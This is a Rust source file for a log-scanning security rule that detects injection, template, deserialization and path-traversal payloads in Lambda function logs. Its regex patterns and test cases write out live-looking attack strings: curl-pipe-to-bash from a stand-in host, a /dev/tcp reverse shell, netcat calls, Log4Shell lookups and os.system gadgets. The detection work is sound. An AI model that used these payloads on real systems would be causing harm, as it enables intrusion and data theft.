//! PAL520: attack payloads in what a function logged, and the payload tables PAL524 shares.

use std::borrow::Cow;
use std::sync::LazyLock;

use palisade_model::{Area, Confidence, RuleMeta, Sas, Severity};
use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};

pub(crate) static META: RuleMeta = RuleMeta {
    code: "PAL520",
    name: "injection-payload-in-function-log",
    title: "Attack payload in an event a function logged",
    severity: Severity::High,
    confidence: Confidence::Medium,
    sas: Sas::S1,
    area: Area::Monitoring,
    fix: "Find the request, check what the function did with the input, and validate the field it arrived in before it reaches a shell, a query, a template or a deserializer.",
    docs: r#"## What it does
Reads every message a Lambda function logged and looks for attack payloads: shell commands
chained onto input (`; cat /etc/passwd`, `$(curl …)`, backticks, `| nc host 4444`,
`&& wget …`), SQL injection (`' OR 1=1--`, `' UNION SELECT NULL,…`, `'; DROP TABLE`,
`' AND SLEEP(5)`), NoSQL operators where user input belongs (`username[$ne]=`, a stringified
body with `{"$gt": ""}`, `"password": {"$ne": …}`, `$where`), template injection (`{{7*7}}`,
`${7*7}`, `<%= 7*7 %>`, `#{7*7}`, Jinja `__class__` walks, `${jndi:…}` Log4Shell lookups),
serialized gadgets (Java `rO0AB…` / `aced0005…`, Python pickle `cos\nsystem` and
`__reduce__` bodies, node-serialize `_$$ND_FUNC$$_`, PHP `O:8:"…":`, YAML
`!!python/object`, .NET `ObjectDataProvider`) and path traversal (`../../etc/`,
`%2e%2e%2f`, `..%5c`, `/etc/passwd`, `/proc/self/environ`).

Functions often log the event they receive, so the payloads attackers send show up in the
function's own log group. The message is matched as written and once URL-decoded, with JSON
string escapes (`\"`, `\u0027`) undone. One detection per function, payload class and request
id; after 50 per function the rest are counted on the last one.

## Why is this bad?
Someone is probing the function with payloads built to escape into a shell, a query, a
template engine or a deserializer. The probe itself proves nothing was exploited, but it
names the request, the field and the technique, and a function that logs such input
unchanged may pass it on unchanged too.

## Example
```
2024-05-01T12:00:01.000Z	8edab1f8-7d34-4a8e-a965-15ccbbb78d4c	INFO	event {"queryStringParameters":{"id":"1' OR 1=1--"}}
```

## Fix
Look at what the function does with the field: parameterise queries, never build shell
commands or templates from input, never deserialize untrusted bytes with a format that can
name types, and resolve paths against an allow-list. Validate the event against a schema at
the edge (API Gateway request validation, a WAF rule) and log only what you need.

## References
- OWASP Serverless Top 10: S1:2017 Injection; S8:2017 Insecure Deserialization
- OWASP Cheat Sheet Series, Injection Prevention: https://cheatsheetseries.owasp.org/cheatsheets/Injection_Prevention_Cheat_Sheet.html
- CWE-78, CWE-89, CWE-943, CWE-1336, CWE-502, CWE-22
"#,
};

/// The kinds of payload, in report order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(crate) enum Class {
    Command,
    Sql,
    NoSql,
    Template,
    Deserialization,
    Traversal,
}

impl Class {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Class::Command => "command injection",
            Class::Sql => "SQL injection",
            Class::NoSql => "NoSQL injection",
            Class::Template => "template injection",
            Class::Deserialization => "deserialization gadget",
            Class::Traversal => "path traversal",
        }
    }

    /// Short, for keys.
    pub(crate) fn id(self) -> &'static str {
        match self {
            Class::Command => "command",
            Class::Sql => "sql",
            Class::NoSql => "nosql",
            Class::Template => "template",
            Class::Deserialization => "deserialization",
            Class::Traversal => "traversal",
        }
    }
}

/// The patterns, by class. Each names an attacker's construct, not a word: SQL keywords,
/// paths, JSON operators and `$` alone never match; they need the quote, separator or
/// encoding that makes them a payload.
const PATTERNS: &[(Class, &str)] = &[
    // A command chained onto input with a shell separator.
    (
        Class::Command,
        r#"(?:;|&&|\|\||\||\$\(|`)\s*(?:cat\s+/etc/|curl\s+(?:-\S+\s+)*['"]?https?://|wget\s+(?:-\S+\s+)*['"]?https?://|nc(?:at)?\s+(?:-\S+\s+)*\S+\s+\d{2,5}\b|bash\s+-[ci]\b|sh\s+-c\s|/bin/(?:ba)?sh\b|whoami\b|uname\s+-a\b|python3?\s+-c\s|perl\s+-e\s|rm\s+-rf\s+/|chmod\s+\+x\s|busybox\s|id\s*(?:\)|$))"#,
    ),
    (
        Class::Command,
        r"\$\(\s*(?:id|whoami|uname|cat|curl|wget|nc|sh|bash|sleep|ping|nslookup|echo)\b[^)]{0,200}\)",
    ),
    (
        Class::Command,
        r"`\s*(?:whoami|uname\s+-a|cat\s+/etc/\S+|curl\s+\S+|wget\s+\S+|nc\s+\S+\s+\d+|sleep\s+\d+|nslookup\s+\S+)\s*`",
    ),
    (
        Class::Command,
        r"(?:curl|wget)\s+(?:-\S+\s+)*\S+\s*\|\s*(?:ba)?sh\b",
    ),
    (
        Class::Command,
        r"/dev/tcp/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/\d+",
    ),
    // SQL: a quote closing the literal, then the injected logic.
    (
        Class::Sql,
        r#"(?i)['"]\s*\)?\s*(?:or|and)\s+\(?\s*(?:\d+\s*=\s*\d+|'[^']{0,20}'\s*=\s*'|"[^"]{0,20}"\s*=\s*"|true\b\s*(?:--|#))"#,
    ),
    (
        Class::Sql,
        r#"(?i)(?:['")]|\d)\s*union\s+(?:all\s+)?select\s+(?:null\b|\d+\s*[,-]|@@\w+|char\(|0x[0-9a-f]|concat\(|group_concat\(|version\(\)|user\(\)|database\(\)|\*\s+from\s+(?:information_schema|users|mysql\.))"#,
    ),
    (
        Class::Sql,
        r#"(?i)['")]\s*;\s*(?:drop\s+(?:table|database)|delete\s+from|truncate\s+table|shutdown|exec(?:ute)?\s+(?:xp_|sp_))\b"#,
    ),
    (
        Class::Sql,
        r#"(?i)['"]\s*(?:\)\s*)?(?:(?:and|or|\|\||;)\s*(?:select\s+)?|select\s+)(?:pg_)?sleep\s*\(\s*\d+\s*\)"#,
    ),
    (Class::Sql, r"(?i)\bwaitfor\s+delay\s+'\d"),
    (Class::Sql, r"(?i)\bbenchmark\s*\(\s*\d{5,}\s*,"),
    (Class::Sql, r"(?i)\b(?:admin|root)['\x22]\s*(?:--|#|/\*)"),
    // NoSQL operators where input belongs: a bracketed parameter, or an operator object on
    // a credential field.
    (
        Class::NoSql,
        r"\w\[\$(?:ne|gt|gte|lt|lte|regex|where|nin|in|exists|eq|expr)\]\s*=",
    ),
    (
        Class::NoSql,
        r#"(?i)"(?:user(?:name)?|email|login|pass(?:word)?|pwd|token|pin|otp|code)"\s*:\s*\{\s*"\$(?:ne|gt|gte|lt|lte|regex|nin|where|expr)"\s*:"#,
    ),
    (
        Class::NoSql,
        r#""\$where"\s*:\s*"[^"]{0,200}(?:this\.|sleep\(|function|return|==)"#,
    ),
    // Template injection: arithmetic probes and the known escapes.
    (Class::Template, r"\{\{\s*\d+\s*\*\s*\d+\s*\}\}"),
    (Class::Template, r"[$#]\{\s*\d+\s*\*\s*\d+\s*\}"),
    (
        Class::Template,
        r"<%=?\s*(?:\d+\s*\*\s*\d+|system\b|`|File\.|IO\.|require\b|process\.|global\.)",
    ),
    (
        Class::Template,
        r"\{\{[^}]{0,200}__(?:class|globals|builtins|mro|subclasses|init)__",
    ),
    (
        Class::Template,
        r"(?i)\$\{\s*(?:jndi\s*:|\$\{\s*(?:lower|upper|::-|env:|date:|sys:)[^}]{0,40}\}[^}]{0,80}\})",
    ),
    (Class::Template, r"T\(\s*java\.lang\.Runtime\s*\)"),
    // Serialized objects that can name their own types.
    (Class::Deserialization, r"\brO0AB[A-Za-z0-9+/=]{8,}"),
    (Class::Deserialization, r"(?i)(?:0x|\b)aced0005[0-9a-f]{8,}"),
    (
        Class::Deserialization,
        r"\bc(?:os|posix|nt|subprocess|builtins|__builtin__)\s*(?:\n|\\n)\s*(?:system|popen|check_output|call|exec|eval|getoutput)\b",
    ),
    (
        Class::Deserialization,
        r"__reduce__[^\n]{0,200}(?:os\.system|subprocess|popen|exec\(|eval\()",
    ),
    (Class::Deserialization, r"_\$\$ND_FUNC\$\$_"),
    (
        Class::Deserialization,
        r#"\b[OC]:\d{1,4}:"[A-Za-z_\\][\w\\]{0,200}":\d{1,4}:\{"#,
    ),
    (
        Class::Deserialization,
        r"!!(?:python/(?:object|name|module|apply)|javax\.script\.ScriptEngineManager|java\.net\.URLClassLoader)",
    ),
    (
        Class::Deserialization,
        r#"(?:System\.Windows\.Data\.ObjectDataProvider|System\.Diagnostics\.Process,\s*System)|\bAAEAAAD/////"#,
    ),
    // Path traversal: several steps up towards something sensitive, or encoded steps.
    (
        Class::Traversal,
        r"(?i)(?:\.\.[/\\]){2,}(?:etc/|windows[/\\]|proc/|var/task|var/runtime|root/|home/|\.ssh|\.aws|boot\.ini|win\.ini)",
    ),
    (
        Class::Traversal,
        r"(?i)(?:%2e%2e|\.%2e|%2e\.)(?:%2f|%5c|/|\\)|\.\.(?:%2f|%5c|%255c|%252f|%c0%af|%c1%9c)|%252e%252e",
    ),
    (
        Class::Traversal,
        r"/etc/(?:passwd|shadow)(?:[^\w.-]|$)|/proc/self/environ(?:[^\w.-]|$)",
    ),
    (Class::Traversal, r"(?i)\bfile:///etc/"),
];

struct Tables {
    set: RegexSet,
    each: Vec<(Class, Regex)>,
}

/// Compiled once, with room for the Unicode classes (`\w`, `\s`) of 35 patterns in one
/// set. A pattern that does not compile is left out (a test compiles every one).
static TABLES: LazyLock<Tables> = LazyLock::new(|| {
    const LIMIT: usize = 64 << 20;
    let each: Vec<(Class, Regex)> = PATTERNS
        .iter()
        .filter_map(|(c, p)| {
            RegexBuilder::new(p)
                .size_limit(LIMIT)
                .build()
                .ok()
                .map(|r| (*c, r))
        })
        .collect();
    let set = RegexSetBuilder::new(each.iter().map(|(_, r)| r.as_str()))
        .size_limit(LIMIT)
        .dfa_size_limit(LIMIT)
        .build()
        .unwrap_or_else(|_| RegexSet::empty());
    Tables { set, each }
});

/// Only this much of a message is matched: logged events are rarely larger, and the cost of
/// a message stays bounded.
const MAX_SCAN: usize = 64 * 1024;
/// A snippet shows this many characters around the match at most.
const SNIPPET: usize = 120;

/// The payloads in a text: each class once, with the matched snippet.
pub(crate) fn payloads(text: &str) -> Vec<(Class, String)> {
    // A long message is matched at its start and at its end, so that padding in front of a
    // payload does not hide it; what lies between is not matched.
    let mut found = payloads_in(head(text, MAX_SCAN));
    if text.len() > MAX_SCAN {
        let mut start = text.len() - MAX_SCAN;
        while !text.is_char_boundary(start) {
            start += 1;
        }
        for (class, snippet) in payloads_in(text.get(start..).unwrap_or("")) {
            if !found.iter().any(|(c, _)| *c == class) {
                found.push((class, snippet));
            }
        }
    }
    found
}

fn payloads_in(text: &str) -> Vec<(Class, String)> {
    let unescaped = unescape_json(text);
    let decoded = url_decode(&unescaped);
    let mut found: Vec<(Class, String)> = Vec::new();
    let mut texts = vec![text];
    if unescaped != text {
        texts.push(&unescaped);
    }
    if decoded != unescaped {
        texts.push(&decoded);
    }
    let tables = &*TABLES;
    for t in texts {
        for i in tables.set.matches(t).iter() {
            let Some((class, re)) = tables.each.get(i) else {
                continue;
            };
            if found.iter().any(|(c, _)| c == class) {
                continue;
            }
            if let Some(m) = re.find(t) {
                found.push((*class, snippet(t, m.start(), m.end())));
            }
        }
    }
    found.sort_by_key(|(c, _)| *c);
    found
}

/// The first `max` bytes of a text, cut at a character boundary.
pub(crate) fn head(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or("")
}

/// The match with the token around it (the parameter before, the rest of the payload
/// after, up to a space, a quote or a comma), bounded to [`SNIPPET`] characters, on one line.
fn snippet(text: &str, start: usize, end: usize) -> String {
    let stop = |c: char| c.is_whitespace() || matches!(c, '"' | ',' | '{' | '[');
    let before = text.get(..start).unwrap_or("");
    let left = before
        .char_indices()
        .rev()
        .take(40)
        .take_while(|(_, c)| !stop(*c))
        .last()
        .map_or(start, |(i, _)| i);
    let after = text.get(end..).unwrap_or("");
    let right = end
        + after
            .char_indices()
            .take(80)
            .take_while(|(_, c)| !stop(*c) || *c == '{' || *c == '[')
            .last()
            .map_or(0, |(i, c)| i + c.len_utf8());
    let m = text.get(left..right).unwrap_or("");
    let shown: String = m
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(SNIPPET)
        .collect();
    if m.chars().count() > SNIPPET {
        format!("{shown}…")
    } else {
        shown
    }
}

/// JSON string escapes that hide a payload inside a stringified body: `\"`, `\'`, `\/`,
/// `\\`, and the `\u00XX` forms of quotes and brackets.
fn unescape_json(text: &str) -> Cow<'_, str> {
    if !text.contains('\\') {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find('\\') {
        out.push_str(rest.get(..i).unwrap_or(""));
        let after = rest.get(i + 1..).unwrap_or("");
        let (replacement, used) = match after.as_bytes() {
            [b'"' | b'\'' | b'/' | b'\\', ..] => (after.get(..1).unwrap_or(""), 1),
            [b'u', b'0', b'0', a, b, ..] => {
                match (a.to_ascii_lowercase(), b.to_ascii_lowercase()) {
                    (b'2', b'2') => ("\"", 5),
                    (b'2', b'7') => ("'", 5),
                    (b'3', b'c') => ("<", 5),
                    (b'3', b'e') => (">", 5),
                    (b'2', b'6') => ("&", 5),
                    (b'6', b'0') => ("`", 5),
                    _ => ("\\", 0),
                }
            }
            _ => ("\\", 0),
        };
        out.push_str(replacement);
        rest = after.get(used..).unwrap_or("");
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Percent-decoding, once, and `+` as a space (query strings); invalid escapes stay.
fn url_decode(text: &str) -> Cow<'_, str> {
    if !text.contains('%') && !text.contains('+') {
        return Cow::Borrowed(text);
    }
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if b == b'%'
            && let (Some(h), Some(l)) = (bytes.get(i + 1), bytes.get(i + 2))
            && let (Some(h), Some(l)) = (hex(*h), hex(*l))
        {
            out.push(h * 16 + l);
            i += 3;
            continue;
        }
        out.push(if b == b'+' { b' ' } else { b });
        i += 1;
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

fn hex(b: u8) -> Option<u8> {
    (b as char).to_digit(16).and_then(|d| u8::try_from(d).ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classes(text: &str) -> Vec<Class> {
        payloads(text).into_iter().map(|(c, _)| c).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        for (_, p) in PATTERNS {
            assert!(Regex::new(p).is_ok(), "{p}");
        }
        assert_eq!(TABLES.each.len(), PATTERNS.len());
        assert_eq!(TABLES.set.len(), PATTERNS.len());
    }

    #[test]
    fn payloads_fire() {
        let cases: &[(&str, Class)] = &[
            ("name=foo; cat /etc/passwd", Class::Command),
            (
                "host=8.8.8.8 && curl http://203.0.113.9/x.sh",
                Class::Command,
            ),
            ("file=$(whoami).txt", Class::Command),
            ("q=`uname -a`", Class::Command),
            ("ip=127.0.0.1 | nc 203.0.113.9 4444", Class::Command),
            ("cmd=curl -s http://evil.example/a | bash", Class::Command),
            (
                "x=;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                Class::Command,
            ),
            ("{\"id\":\"1' OR 1=1--\"}", Class::Sql),
            ("user=admin' or '1'='1", Class::Sql),
            ("id=1%27%20OR%201%3D1--", Class::Sql),
            ("id=1' UNION SELECT NULL,NULL,NULL--", Class::Sql),
            (
                "id=-1 union all select 1,2,group_concat(password)",
                Class::Sql,
            ),
            ("name=x'; DROP TABLE users;--", Class::Sql),
            ("id=1' AND SLEEP(5)--", Class::Sql),
            ("id=1; WAITFOR DELAY '0:0:5'--", Class::Sql),
            ("username=admin'--", Class::Sql),
            ("login?username[$ne]=x&password[$ne]=x", Class::NoSql),
            (
                r#"{"body":"{\"username\":\"admin\",\"password\":{\"$ne\":null}}"}"#,
                Class::NoSql,
            ),
            (
                r#"{"$where": "this.password.length > 0 || sleep(5000)"}"#,
                Class::NoSql,
            ),
            ("name={{7*7}}", Class::Template),
            ("name=${7*7}", Class::Template),
            ("name=#{7*7}", Class::Template),
            ("name=<%= 7*7 %>", Class::Template),
            (
                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                Class::Template,
            ),
            (
                "User-Agent: ${jndi:ldap://203.0.113.9:1389/a}",
                Class::Template,
            ),
            ("x=${${lower:j}ndi:ldap://203.0.113.9/a}", Class::Template),
            (
                "data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
                Class::Deserialization,
            ),
            ("0xaced00057372001a", Class::Deserialization),
            (r"payload=cos\nsystem\n(S'id'\ntR.", Class::Deserialization),
            (
                r#"{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#,
                Class::Deserialization,
            ),
            (
                r#"cart=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/hosts";}"#,
                Class::Deserialization,
            ),
            (
                "config: !!python/object/apply:os.system ['id']",
                Class::Deserialization,
            ),
            ("file=../../../../etc/passwd", Class::Traversal),
            ("file=..%2f..%2f..%2fetc%2fshadow", Class::Traversal),
            ("file=%2e%2e%2f%2e%2e%2fvar/task/app.py", Class::Traversal),
            ("path=..%5c..%5cwindows%5cwin.ini", Class::Traversal),
            ("file=/proc/self/environ", Class::Traversal),
        ];
        for (text, class) in cases {
            assert!(
                classes(text).contains(class),
                "{text}: {:?}",
                payloads(text)
            );
        }
    }

    #[test]
    fn padding_does_not_hide_a_payload() {
        let text = format!(
            r#"event {{"pad":"{}","q":"1; cat /etc/passwd"}}"#,
            "A".repeat(70_000)
        );
        let classes: Vec<Class> = payloads(&text).into_iter().map(|(c, _)| c).collect();
        assert!(classes.contains(&Class::Command), "{classes:?}");
    }

    #[test]
    fn benign_logs_do_not_fire() {
        let cases = [
            "SELECT id, name FROM orders WHERE customer_id = $1 ORDER BY created_at",
            "query: SELECT a FROM t1 UNION ALL SELECT a FROM t2",
            "migration 0042: DROP TABLE IF EXISTS old_sessions; CREATE TABLE sessions (id int)",
            "user said: I'd like to order 2 or 3 items",
            "price is $7.99, total ${total} (template not rendered)",
            "total: $12 * 3 = $36",
            r#"{"filter":{"age":{"$gt":18},"status":{"$in":["a","b"]}}}"#,
            "Loading config from /var/task/config/../settings.json",
            "import failed: ../lib/util.js not found",
            "at Runtime.handler (/var/task/index.js:12:5)",
            "GET /api/items?sort=price&order=desc 200",
            "retrying after sleep(2) because of throttling",
            r#"mongo query {"email": {"$exists": true}}"#,
            r#"status: "sleep(5) minutes""#,
            "reading /etc/passwords.json and /etc/passwd-like files",
            "search id(s); id; ok",
            "id: 550e8400-e29b-41d4-a716-446655440000; cat: shoes",
            "field `id` is required; see `curl` docs",
            "Processing order O:12 for customer C:7",
            "email=jane.doe%40example.com&name=Jane+Doe",
            "Reading /etc/hosts for resolver config",
            "the user's cart has 3 items and the user's name is O'Brien",
            r#"{"message":"don't -- stop","level":"INFO"}"#,
            "{{ greeting }} {{name}} rendered",
            "cos(x) computed\nsystem ready",
            "2020-03-05T16:30:36.114Z\tf08bb4c8-d6b2-4f05-ac17-af7e2ba005fb\tDEBUG\t{\"status\":\"debug\",\"message\":\"datadog:Reading trace context from env var Root=1-5e61292c-cc1229a4dfbeae1043928548;Parent=c657b77d9514f70c;Sampled=1\"}",
            "Base64 image: iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
            "a || b && c",
            "echo test && make build",
            "page 1 of 3; total=10",
            r#"{"where":"status = 'open' OR status = 'pending'"}"#,
        ];
        for text in cases {
            assert!(payloads(text).is_empty(), "{text}: {:?}", payloads(text));
        }
    }

    #[test]
    fn snippets_are_bounded_and_decoding_is_done_once() {
        let long = format!("id=1' UNION SELECT NULL,{}--", "NULL,".repeat(100));
        let found = payloads(&long);
        assert!(found[0].1.chars().count() <= SNIPPET + 1);
        // Double encoding is decoded once: `%252e%252e` is caught by its own pattern, not by
        // decoding twice.
        assert_eq!(classes("file=%252e%252e%252fetc"), vec![Class::Traversal]);
        assert_eq!(url_decode("a%27b+c%zz"), "a'b c%zz");
        assert_eq!(unescape_json(r#"\"a\u0027b\\"#), r#""a'b\"#);
    }
}
